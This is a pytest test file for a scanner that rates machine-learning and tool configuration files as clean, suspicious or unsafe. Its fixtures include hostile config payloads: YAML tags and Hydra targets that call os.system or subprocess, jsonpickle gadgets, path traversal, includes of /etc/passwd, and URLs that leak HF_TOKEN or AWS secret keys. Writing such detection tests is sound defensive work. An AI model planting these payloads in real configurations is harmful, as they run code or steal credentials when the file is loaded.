from __future__ import annotations

import json

import pytest

from scanning.scanners import Verdict, scanners

CLEAN = {
    "config.json": {"model_type": "bert", "type": "x", "target": 3},
    "hydra.json": {"_target_": "torch.nn.Linear", "loss": {"target": "ldm.models.diffusion.DDPM"}},
    "modules.json": [{"idx": 0, "path": "", "type": "sentence_transformers.models.Transformer"}],
    "exported.json": {"nodes": [{"target": "torch.ops.aten.linear.default"}]},
    "index.json": {"weight_map": {"a.weight": "model-00001-of-00002.safetensors"}},
    "pipeline.json": {"_class_name": "DDPMPipeline", "unet": ["diffusers", "UNet2DModel"]},
    "parts.json": {
        "_class_name": "StableDiffusionPipeline",
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "feature_extractor": [None, None],
    },
    "unet.json": {
        "_class_name": "UNet2DModel",
        "down_block_types": ["DownBlock2D", "AttnDownBlock2D"],
    },
    "servers.json": {"servers": [{"url": "https://example.org"}], "command": "train"},
    "adapter.json": {
        "auto_mapping": {"base_model_class": "X", "parent_library": "transformers.models.bert"}
    },
    "chain.json": {"lc": 1, "type": "constructor", "id": ["langchain", "llms", "openai", "OpenAI"]},
    "dense.json": {"activation_function": "torch.nn.modules.activation.Tanh"},
    "vocab.json": {"auto_map": 7, "postinstall": 8, "@type": 9, "types": 10, "py/object": 11},
    "attention.json": {"_attn_implementation": "flash_attention_2"},
    "own.json": {"_target_": "project.test.models.Net"},
}
SUSPICIOUS = {
    "auto_map": {"auto_map": {"AutoModel": "modeling.Net"}},
    "escaped": {"auto_map": {"AutoModel": "modeling.Net"}},
    "elsewhere": {"auto_map": {"AutoModel": "other/repo--modeling.Net"}},
    "diffusers": {"_class_name": ["pipeline", "MyPipeline"]},
    "local part": {"_class_name": "Net", "unet": ["modeling_unet", "Net"]},
    "local part in large letters": {"_class_name": "MyPipeline", "unet": ["UNET", "net"]},
    "generation": {"custom_generate": "someone/generation"},
    "servers": {"mcpServers": {"x": {"command": "npx", "args": ["-y", "server"]}}},
    "agent": {"servers": [{"type": "stdio", "config": {"command": "npx", "args": []}}]},
    "custom_st": [{"idx": 0, "path": "", "type": "custom_st.Transformer"}],
    "jsonpickle": {"a": {"py/object": "app.Thing"}},
    "adapter": {"auto_mapping": {"base_model_class": "X", "parent_library": "own_modules.x"}},
    "kernel": {"_attn_implementation": "someone/kernels:attention"},
    "activation": {"activation_function": "own.module.Act"},
    "route": {"types": {"query": "own.module.Route"}, "structure": {"query": []}},
    "task": {"tasks": [{"command": "true", "runOptions": {"runOn": "folderOpen"}}]},
    "package": {"scripts": {"postinstall": "true"}},
    "java": {"@type": "javax.script.ScriptEngineManager"},
    "native": {"session_options": {"custom_ops_library": "libown.so"}},
    "chain": {"_type": "pal_chain", "llm": {}},
}
UNSAFE_JSON = {
    "hydra": {"x": [{"_target_": "os.system", "_args_": ["true"]}]},
    "builtins": {"_target_": "builtins.exec"},
    "lightning": {"class_path": "subprocess.Popen"},
    "shards": {"weight_map": {"a.weight": "../../other/model.bin"}},
    "pipeline": {"_class_name": "DDPMPipeline", "unet": ["os", "system"]},
    "sentence": [{"idx": 0, "path": "", "type": "subprocess.Popen"}],
    "adapter": {"base_model_class": "system", "parent_library": "os"},
    "activation": {"activation_fn": "subprocess.Popen"},
    "route": {"types": {"query": "os.system"}, "structure": {}},
    "elsewhere": [{"idx": 0, "path": "../../x", "type": "sentence_transformers.models.Pooling"}],
    "saved chain": {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"]},
    "evaluated": {"a": {"py/repr": "os/os.getcwd()"}},
    "gadget": {"_target_": "timeit.timeit", "stmt": "1"},
    "jsonpickle": {"py/reduce": [{"py/function": "os.system"}]},
}
YAML = [
    ("a: 1\n_target_: torch.optim.Adam\n", Verdict.CLEAN),
    ("a: !!python/tuple [1, 2]\n", Verdict.CLEAN),
    ("model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n", Verdict.CLEAN),
    ("a: !!python/object/apply:os.system ['true']\n", Verdict.UNSAFE),
    (
        "%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system [x]\n",
        Verdict.UNSAFE,
    ),
    ("a: !<tag:yaml.org,2002:python/object/new:x.Y> {}\n", Verdict.UNSAFE),
    ("a: !!python/name:os.system\n", Verdict.UNSAFE),
    ("a: !!python/name:app.names.x\n", Verdict.SUSPICIOUS),
    ("x: !apply:os.system ['true']\n", Verdict.UNSAFE),
    ("x:\n  _target_: os.system\n", Verdict.UNSAFE),
    ("x: &name _target_\n*name : os.system\n", Verdict.UNSAFE),
    ("chat_template: \"{{ ''.__class__ }}\"\n", Verdict.UNSAFE),
    ("chat_template: '{{ messages[0].content }}'\n", Verdict.CLEAN),
    ("a: !!python/object/apply:pathlib.PosixPath [/, home]\n", Verdict.CLEAN),
    ("a: !!python/object:argparse.Namespace {lr: 1}\n", Verdict.CLEAN),
    ("a: !!python/object/apply:functools.partial [!!python/name:os.system '']\n", Verdict.UNSAFE),
    ("a: !ruby/object:Gem::Installer {}\n", Verdict.SUSPICIOUS),
    ("a: !!javax.script.ScriptEngineManager []\n", Verdict.SUSPICIOUS),
    ("x: [\n  !!python/object/apply:os.system ['true'\n", Verdict.UNSAFE),
]


@pytest.mark.parametrize("data", CLEAN.values(), ids=CLEAN)
def test_configuration_that_names_classes_of_packages_is_clean(scan_bytes, data):
    report = scan_bytes("config_code", json.dumps(data).encode(), "config.json")
    assert report.verdict is Verdict.CLEAN


@pytest.mark.parametrize("data", SUSPICIOUS.values(), ids=SUSPICIOUS)
def test_configuration_that_names_code_of_repositories_is_suspicious(scan_bytes, data):
    text = json.dumps(data).replace("auto_map", "\\u0061uto_map" if data else "")
    report = scan_bytes("config_code", text.encode(), "config.json")
    assert report.verdict is Verdict.SUSPICIOUS
    assert {one.rule for one in report.findings} <= scanners.get("config_code").rules.keys()


def test_code_of_another_repository_has_a_rule_of_its_own(scan_bytes):
    text = json.dumps(SUSPICIOUS["elsewhere"]).encode()
    [finding] = scan_bytes("config_code", text, "config.json").findings
    assert finding.rule == "remote_code_elsewhere"


@pytest.mark.parametrize("data", UNSAFE_JSON.values(), ids=UNSAFE_JSON)
def test_a_target_that_runs_anything_is_unsafe(scan_bytes, data):
    report = scan_bytes("config_code", json.dumps(data).encode(), "config.json")
    assert report.verdict is Verdict.UNSAFE


def test_broken_json_that_names_code_is_suspicious(scan_bytes):
    report = scan_bytes("config_code", b'{"auto_map": {"AutoModel": "m.N"},}', "config.json")
    assert report.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(("text", "verdict"), YAML)
def test_tags_and_targets_of_yaml(scan_bytes, text, verdict):
    report = scan_bytes("config_code", text.encode(), "hyperparams.yaml")
    assert report.verdict is verdict
    assert {one.rule for one in report.findings} <= scanners.get("config_code").rules.keys()


def test_aliases_of_yaml_are_not_expanded(scan_bytes):
    lines = ["a0: &a0 [x, x]"] + [f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 60)]
    assert scan_bytes("config_code", "\n".join(lines).encode(), "a.yml").verdict is Verdict.CLEAN


WORDS = [f"word {n}" for n in range(1500)]


@pytest.mark.parametrize(
    ("more", "verdict"),
    [
        ({}, Verdict.CLEAN),
        ({"auto_map": dict.fromkeys(WORDS, "a.B")}, Verdict.SUSPICIOUS),
        ({"auto_map": {"AutoModel": "a.B"}}, Verdict.SUSPICIOUS),
        ({"x": dict.fromkeys(WORDS, 1.5) | {"_target_": "os.system"}}, Verdict.UNSAFE),
        ({"y": {word: {} for word in WORDS} | {"z": [{"_target_": "os.system"}]}}, Verdict.UNSAFE),
        ({"weight_map": dict.fromkeys(WORDS, "a") | {"z": "../../b"}}, Verdict.UNSAFE),
        ({"structure": {}, "types": dict.fromkeys(WORDS, "") | {"z": "a.B"}}, Verdict.SUSPICIOUS),
    ],
)
def test_what_a_file_with_a_large_vocabulary_names_is_found(scan_bytes, more, verdict):
    words = {f"\u2581word {n} \U0001f600": n for n in range(250_000)}
    content = json.dumps({"type": "BPE", "vocab": words} | more, ensure_ascii=False).encode()
    assert scan_bytes("config_code", content, "tokenizer.json").verdict is verdict


@pytest.mark.parametrize(
    ("lines", "verdict"),
    [
        ("    loader_module: mlflow.sklearn\n    model_path: model.pkl\n", Verdict.CLEAN),
        ("    loader_module: own_loader\n", Verdict.SUSPICIOUS),
        ("    loader_module: subprocess\n", Verdict.UNSAFE),
        ("    loader_module: mlflow.sklearn\n    model_path: ../../x.pkl\n", Verdict.UNSAFE),
    ],
)
def test_mlflow_imports_what_its_description_names(scan_bytes, lines, verdict):
    report = scan_bytes("config_code", f"flavors:\n  x:\n{lines}".encode(), "MLmodel")
    assert report.verdict is verdict, report.findings
    assert {one.rule for one in report.findings} <= scanners.get("config_code").rules.keys()


TOLD_TO_TOOLS = {
    "allen.json": '{"dataset_reader": {"type": "x"}, "model": {"type": "mine.models.Net"}}',
    "allen.jsonnet": "{dataset_reader: {type: 'x'}, model: {type: 'mine.models.Net'}}",
    "archive.json": '{"model": {"archive_file": "https://a.example/m.tar.gz"}}',
    "hocon.conf": 'include required(url("https://a.example/x.conf"))\n',
    "include.yaml": "a: !include https://a.example/x.yaml\n",
    "script.yaml": "a: !!js/function 'x'\n",
    "pickled.json": '{"py/newargs": ["x"]}',
    "env.yaml": "url: https://a.example/${oc.env:API_KEY}\n",
    "server.yaml": "tool-parser-plugin: ./parser.py\n",
    "serve.yaml": "applications:\n- import_path: mine:app\n",
    "list.yaml": "logits_processors:\n- a: 1\n- mine.Processor\nmiddleware: [mine.Other]\n",
    "worker.json": '{"worker_cls": "mine.Worker"}',
    "imports.json": '{"custom_imports": {"imports": ["mine.models"]}}',
    "agent.json": '{"hooks": {"x": [{"type": "command", "command": "true"}]}}',
    "package.json": '{"scripts": {"prepare": "node a.js"}}',
    "settings.json": '{"python.defaultInterpreterPath": "./bin/python"}',
    "tokenizer.json": '{"pattern": {"Regex": "(?:\\\\p{L}+)+$"}}',
}
CALLED = {
    "m.yaml": "m: {_target_: eval, source: '1'}\n",
    "n.yaml": "m: {_target_: 'os . system'}\n",
    "o.conf": "a { _target_ = os.system }\n",
    "p.hocon": "a { class_path: subprocess.run }\n",
    "q.jsonnet": "{_target_: std.join('.', ['os', 'system'])}",
    "r.jsonnet": "{_target_: std.base64Decode('b3Muc3lzdGVt')}",
    "s.jsonnet": "{_target_: std.format('%s.%s', ['os', 'system'])}",
    "t.yaml": "a: !include /etc/passwd\n",
    "u.conf": 'include file("/etc/passwd")\n',
    "v.json": '{"h": {"class": "logging.FileHandler", "filename": "/etc/cron.d/x"}}',
    "w.yaml": "url: https://a.example/?t=${oc.env:HF_TOKEN}\n",
    "x.yaml": "url: https://${AWS_SECRET_ACCESS_KEY}.a.example/\n",
    "a.json": '{"model": {"type": "os.system"}}',
    "b.json": '{"a": [{"fn": "posix:system"}]}',
    "c.yaml": "callback: subprocess.run\n",
    "d.yaml": "callback: [subprocess.run]\n",
    "e.toml": "[model]\n_target_ = 'os.system'\n",
    "f.json": '{"handlers": {"x": {"()": "os.system"}}}',
    "g.conf": "[handler_x]\nargs=(__import__('os').system('true'),)\n",
    "h.json": '{"x": {"_target_": "$__import__", "name": "os"}}',
    "i.yaml": "x:\n  name: os.system\n  params: {command: x}\n",
    "j.yaml": "pipeline: {name: os.system}\n",
    "k.json": '{"py/object": "subprocess.Popen"}',
    "l.yaml": "_target_: logging.handlers.SocketHandler\n",
}
NOTHING = {
    "j.json": '{"dataset_reader": {"type": "snli"}, "model": {"type": "allennlp.models.Model"}}',
    "k.yaml": "a: !include ../base.yaml\nb: !include part.yaml\n",
    "l.yaml": "url: https://u:${oc.env:DB_PASSWORD}@a.example/x\nh: https://${HOST}/x?k=${API_KEY}\n",
    "m.yaml": "url: https://api.openai.com/?k=${oc.env:OPENAI_API_KEY}\nfilename: logs/a.log\n",
    "n.json": '{"h": {"class": "logging.FileHandler", "filename": "/var/log/a.log"}}',
    "o.conf": 'include "base.conf"\ninclude file("part.conf")\na { lr = 1 }\n',
    "a.json": '{"class_name": "TFOpLambda", "config": {"function": "math.multiply"}}',
    "b.json": '{"vocab": {"type": 1, "Regex": 2, "scripts": 3, "imports": 4, "os.system": 5}}',
    "c.json": '{"pattern": {"Regex": "[^\\\\r\\\\n\\\\p{L}]?\\\\p{L}+| ?[^\\\\s]+[\\\\r\\\\n]*"}}',
    "d.json": '{"scripts": {"test": "jest"}, "type": "module"}',
    "e.yaml": "type: BPE\nmiddleware: true\nimports: none\n",
    "f.toml": "[net]\n_target_ = 'torch.nn.Linear'\n",
    "g.conf": "[handler_x]\nclass=StreamHandler\nargs=(sys.stdout,)\n",
    "h.json": '{"formatters": {"x": {"()": "uvicorn.logging.DefaultFormatter"}}}',
    "i.yaml": "pipeline: {name: pyannote.audio.pipelines.SpeakerDiarization, params: {}}\n",
}


@pytest.mark.parametrize(("name", "text"), TOLD_TO_TOOLS.items(), ids=TOLD_TO_TOOLS)
def test_code_that_servers_and_editors_are_told_to_run_is_suspicious(scan_bytes, name, text):
    assert scan_bytes("config_code", text.encode(), name).verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(("name", "text"), CALLED.items(), ids=CALLED)
def test_a_function_that_runs_anything_is_unsafe_under_any_key_that_is_called(
    scan_bytes, name, text
):
    assert scan_bytes("config_code", text.encode(), name).verdict is Verdict.UNSAFE


@pytest.mark.parametrize(("name", "text"), NOTHING.items(), ids=NOTHING)
def test_what_only_has_such_words_is_clean(scan_bytes, name, text):
    assert scan_bytes("config_code", text.encode(), name).findings == ()
